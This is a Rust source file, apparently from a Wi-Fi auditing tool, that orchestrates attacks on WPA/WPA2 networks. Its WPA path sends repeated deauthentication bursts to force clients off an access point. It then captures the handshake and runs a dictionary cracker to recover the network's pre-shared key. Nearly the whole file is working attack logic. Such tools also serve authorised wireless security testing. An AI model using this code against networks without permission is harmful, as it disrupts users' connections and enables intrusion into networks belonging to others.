//! Attack orchestration.
//!
//! The attack chain is a fixed, priority-ordered list of attack kinds; a
//! predicate filters it per target. The WPA path is native: capture with
//! periodic deauthentication bursts until a handshake lands or the timeout
//! fires, persist the capture, then hand the handshake to the dictionary
//! verifier. PMKID and WEP rely on external back-ends and only participate
//! in chain selection here.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::mpsc::{sync_channel, RecvTimeoutError};
use std::time::{Duration, Instant};

use chrono::Utc;

use oxifi_wireless::{
    scan_capture_file, AccessPoint, CaptureWriter, DeauthReason, Encryption, Injector,
    MacAddress, RadioProvider, WirelessError, DLT_IEEE802_11_RADIO,
};
use oxifi_wpa::{CrackOutcome, DictionaryCracker, PreparedHandshake};

use crate::cancel::CancelToken;
use crate::config::Config;
use crate::error::{CoreError, Result};
use crate::result::CrackResult;

/// Settle time after opening the capture before the first deauth burst.
const CAPTURE_INIT_DELAY: Duration = Duration::from_secs(1);

/// Poll granularity of the capture wait loop.
const WAIT_TICK: Duration = Duration::from_millis(200);

/// The attacks the orchestrator knows, in priority order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackKind {
    /// Deauthentication support bursts; never standalone.
    Deauth,
    /// Client-less PMKID capture via an external back-end.
    Pmkid,
    /// Native handshake capture plus dictionary attack.
    Wpa,
}

impl AttackKind {
    /// Chain order: lower priority value runs first.
    pub const CHAIN: [AttackKind; 3] = [AttackKind::Deauth, AttackKind::Pmkid, AttackKind::Wpa];

    pub fn name(&self) -> &'static str {
        match self {
            Self::Deauth => "Deauthentication",
            Self::Pmkid => "PMKID",
            Self::Wpa => "WPA Handshake",
        }
    }

    pub fn priority(&self) -> u8 {
        match self {
            Self::Deauth => 0,
            Self::Pmkid => 10,
            Self::Wpa => 30,
        }
    }

    /// Whether this attack applies to a target under the configuration.
    pub fn can_attack(&self, cfg: &Config, target: &AccessPoint) -> bool {
        let wpa_class = matches!(target.encryption, Encryption::Wpa | Encryption::Wpa2);

        match self {
            // Support attack only; never selected standalone.
            Self::Deauth => false,
            Self::Pmkid => {
                wpa_class
                    && !cfg.attack.no_pmkid
                    && !cfg.attack.wps_only
                    && !cfg.attack.wep_only
            }
            Self::Wpa => wpa_class && !cfg.attack.wps_only && !cfg.attack.wep_only,
        }
    }
}

/// Attacks applicable to a target, in chain order.
pub fn select_attacks(cfg: &Config, target: &AccessPoint) -> Vec<AttackKind> {
    AttackKind::CHAIN
        .iter()
        .copied()
        .filter(|kind| kind.can_attack(cfg, target))
        .collect()
}

/// Runs the attack chain against targets.
pub struct Orchestrator<'a> {
    cfg: &'a Config,
    provider: &'a dyn RadioProvider,
}

impl<'a> Orchestrator<'a> {
    pub fn new(cfg: &'a Config, provider: &'a dyn RadioProvider) -> Self {
        Self { cfg, provider }
    }

    /// Run applicable attacks against one target until one produces a key.
    pub fn attack_target(
        &self,
        target: &AccessPoint,
        cancel: &CancelToken,
    ) -> Result<CrackResult> {
        self.cfg.validate()?;

        let attacks = select_attacks(self.cfg, target);
        if attacks.is_empty() {
            return Err(CoreError::NoApplicableAttack(format!(
                "{} ({})",
                target.essid, target.encryption
            )));
        }

        let mut last_err = None;
        for kind in attacks {
            cancel.check()?;

            tracing::info!(attack = kind.name(), target = %target, "starting attack");

            let result = match kind {
                AttackKind::Wpa => WpaAttack::new(self.cfg).run(self.provider, target, cancel),
                AttackKind::Deauth | AttackKind::Pmkid => {
                    Err(CoreError::BackendUnavailable(kind.name()))
                }
            };

            match result {
                Ok(result) => return Ok(result),
                Err(err) if err.is_cancelled() => return Err(err),
                Err(err) => {
                    tracing::warn!(attack = kind.name(), %err, "attack failed");
                    last_err = Some(err);
                }
            }
        }

        Err(last_err.unwrap_or_else(|| {
            CoreError::NoApplicableAttack(target.essid.clone())
        }))
    }
}

/// Native WPA handshake capture and crack.
pub struct WpaAttack<'a> {
    cfg: &'a Config,
}

impl<'a> WpaAttack<'a> {
    pub fn new(cfg: &'a Config) -> Self {
        Self { cfg }
    }

    /// Execute the full capture-then-crack flow for one target.
    pub fn run(
        &self,
        provider: &dyn RadioProvider,
        target: &AccessPoint,
        cancel: &CancelToken,
    ) -> Result<CrackResult> {
        let start = Instant::now();
        let hs_dir = &self.cfg.output.handshake_dir;
        fs::create_dir_all(hs_dir)?;

        // A capture from an earlier session short-circuits straight to
        // verification.
        if let Some(existing) = find_existing_capture(hs_dir, target.bssid) {
            tracing::info!(capture = %existing.display(), "reusing stored capture");
            return self.crack(&existing, target, start, cancel);
        }

        let capture_path = self.capture_handshake(provider, target, cancel)?;
        self.crack(&capture_path, target, start, cancel)
    }

    /// Capture until a handshake completes; returns the persisted path.
    fn capture_handshake(
        &self,
        provider: &dyn RadioProvider,
        target: &AccessPoint,
        cancel: &CancelToken,
    ) -> Result<PathBuf> {
        let wpa_cfg = &self.cfg.attack.wpa;
        let hs_dir = &self.cfg.output.handshake_dir;

        if target.channel != 0 {
            if let Err(err) = provider.set_channel(&self.cfg.interface, target.channel) {
                tracing::warn!(%err, channel = target.channel, "channel tuning failed");
            }
        }

        let radio = provider.open_monitor(&self.cfg.interface).map_err(|err| {
            CoreError::Wireless(WirelessError::RadioUnavailable(err.to_string()))
        })?;

        let tmp_path = hs_dir.join(format!(
            "capture_{}_{}.cap",
            sanitize_essid(&target.essid),
            Utc::now().format("%Y%m%d-%H%M%S")
        ));

        let mut writer = CaptureWriter::create(&tmp_path, target.bssid, DLT_IEEE802_11_RADIO)?;

        // One-shot completion signal out of the tracker's notifier thread.
        let (hs_tx, hs_rx) = sync_channel::<()>(1);
        writer.on_handshake(move |_| {
            let _ = hs_tx.try_send(());
        });

        writer.start(radio)?;

        // Let the capture settle before the first burst.
        if let Err(err) = cancel.sleep(CAPTURE_INIT_DELAY) {
            let _ = writer.stop();
            return Err(err);
        }

        // The injector owns its own handle. Deauth is best effort: if the
        // transmit side cannot open, the capture continues passively.
        let mut injector = match provider.open_monitor(&self.cfg.interface) {
            Ok(radio) => Some(Injector::new(radio)),
            Err(err) => {
                tracing::warn!(%err, "injection unavailable, capturing passively");
                None
            }
        };

        let clients: Vec<MacAddress> = target.clients.iter().copied().collect();
        let reason = DeauthReason::default_for_attack().as_u16();

        if let Some(inj) = injector.as_mut() {
            inj.deauth_burst(target.bssid, &clients, reason, wpa_cfg.deauth_count);
        }

        let deadline = Instant::now() + wpa_cfg.handshake_timeout;
        let mut next_burst = Instant::now() + wpa_cfg.deauth_interval;

        loop {
            if cancel.is_cancelled() {
                let _ = writer.stop();
                return Err(CoreError::Cancelled);
            }

            match hs_rx.recv_timeout(WAIT_TICK) {
                Ok(()) => break,
                Err(RecvTimeoutError::Timeout) => {}
                Err(RecvTimeoutError::Disconnected) => {
                    if writer.has_handshake() {
                        break;
                    }
                    std::thread::sleep(WAIT_TICK);
                }
            }

            if writer.has_handshake() {
                break;
            }

            if Instant::now() >= deadline {
                writer.stop()?;
                let eapol_frames = writer.eapol_count();
                tracing::warn!(
                    eapol_frames,
                    capture = %tmp_path.display(),
                    "handshake capture timed out"
                );
                return Err(CoreError::HandshakeIncomplete {
                    eapol_frames,
                    capture_path: tmp_path,
                });
            }

            if Instant::now() >= next_burst {
                if let Some(inj) = injector.as_mut() {
                    inj.deauth_burst(target.bssid, &clients, reason, wpa_cfg.deauth_count);
                }
                next_burst = Instant::now() + wpa_cfg.deauth_interval;
            }
        }

        writer.stop()?;
        tracing::info!(
            eapol_frames = writer.eapol_count(),
            frames = writer.frames_written(),
            "handshake captured"
        );

        Ok(persist_capture(&tmp_path, hs_dir, &target.essid, target.bssid))
    }

    /// Verify the stored capture against the configured wordlist.
    fn crack(
        &self,
        capture_path: &Path,
        target: &AccessPoint,
        start: Instant,
        cancel: &CancelToken,
    ) -> Result<CrackResult> {
        let scan = scan_capture_file(capture_path, target.bssid)?;
        let handshake = scan.complete().ok_or_else(|| CoreError::HandshakeIncomplete {
            eapol_frames: scan.eapol_frames,
            capture_path: capture_path.to_path_buf(),
        })?;

        let prepared = PreparedHandshake::from_handshake(handshake, &target.essid)?;

        if !self.cfg.wordlist.is_file() {
            return Err(CoreError::WordlistMissing {
                handshake_file: capture_path.to_path_buf(),
            });
        }

        let cracker = DictionaryCracker::new(prepared).with_stop_flag(cancel.flag());
        match cracker.run(&self.cfg.wordlist)? {
            CrackOutcome::Found { key, attempts } => {
                tracing::info!(attempts, "pre-shared key recovered");
                Ok(CrackResult {
                    bssid: target.bssid.to_string(),
                    essid: target.essid.clone(),
                    key: Some(key),
                    encryption: target.encryption.to_string(),
                    attack_type: AttackKind::Wpa.name().to_string(),
                    handshake_file: Some(capture_path.to_path_buf()),
                    duration: start.elapsed(),
                    timestamp: Utc::now(),
                })
            }
            CrackOutcome::Exhausted { attempts } => Err(CoreError::KeyNotFound {
                handshake_file: capture_path.to_path_buf(),
                attempts,
            }),
            CrackOutcome::Cancelled { .. } => Err(CoreError::Cancelled),
        }
    }
}

/// Replace path separators, NULs, and control characters in an ESSID so it
/// is safe as a file-name component.
pub fn sanitize_essid(essid: &str) -> String {
    let cleaned: String = essid
        .chars()
        .map(|c| {
            if c == '/' || c == '\\' || c == '\0' || c.is_control() {
                '_'
            } else {
                c
            }
        })
        .collect();

    if cleaned.is_empty() {
        "hidden".to_string()
    } else {
        cleaned
    }
}

/// Persistent capture name for a target.
pub fn handshake_filename(essid: &str, bssid: MacAddress) -> String {
    format!("hs_{}_{}.cap", sanitize_essid(essid), bssid)
}

/// Move a finished capture to its persistent name. Falls back to the
/// original path when the copy fails.
fn persist_capture(tmp: &Path, hs_dir: &Path, essid: &str, bssid: MacAddress) -> PathBuf {
    let dest = hs_dir.join(handshake_filename(essid, bssid));
    if tmp == dest {
        return dest;
    }

    match fs::copy(tmp, &dest) {
        Ok(_) => {
            let _ = fs::remove_file(tmp);
            dest
        }
        Err(err) => {
            tracing::warn!(%err, "could not persist capture, keeping temporary file");
            tmp.to_path_buf()
        }
    }
}

/// Any stored capture whose name references the BSSID.
fn find_existing_capture(hs_dir: &Path, bssid: MacAddress) -> Option<PathBuf> {
    let needle = bssid.to_string();
    let entries = fs::read_dir(hs_dir).ok()?;

    for entry in entries.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.contains(&needle) && name.ends_with(".cap") {
            return Some(entry.path());
        }
    }
    None
}
